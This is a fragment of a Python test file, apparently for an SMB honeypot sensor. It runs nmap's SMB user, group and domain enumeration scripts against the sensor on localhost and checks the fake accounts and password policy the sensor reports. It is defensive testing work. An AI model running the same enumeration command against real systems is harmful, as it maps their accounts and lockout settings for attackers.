    assert not [e for e in evs if e["eventid"] == "smb.dcerpc.request" and "fault" in e["extra"]]


def test_nmap_smb_enum_scripts_read_a_plain_host(smb_sensor: tuple[SensorProc, int]) -> None:
    if need("nmap"):
        pytest.skip(need("nmap") or "")
    _sp, port = smb_sensor
    scripts = "smb-enum-users,smb-enum-groups,smb-enum-domains"
    cmd = ["nmap", "-Pn", "-n", "-p", str(port), "--script", scripts, "--script-args", f"smbport={port}", "127.0.0.1"]
    out = subprocess.run(cmd, capture_output=True, text=True, timeout=120).stdout
    assert "\\Administrator (RID: 500)" in out and "\\Guest (RID: 501)" in out
    assert "Normal user account" in out and "Password does not expire" in out and "Account disabled" in out
    assert "Builtin\\Administrators (RID: 544): Administrator" in out
    assert "max age: 42 days" in out and "Account lockout disabled" in out
    assert "ERROR" not in out
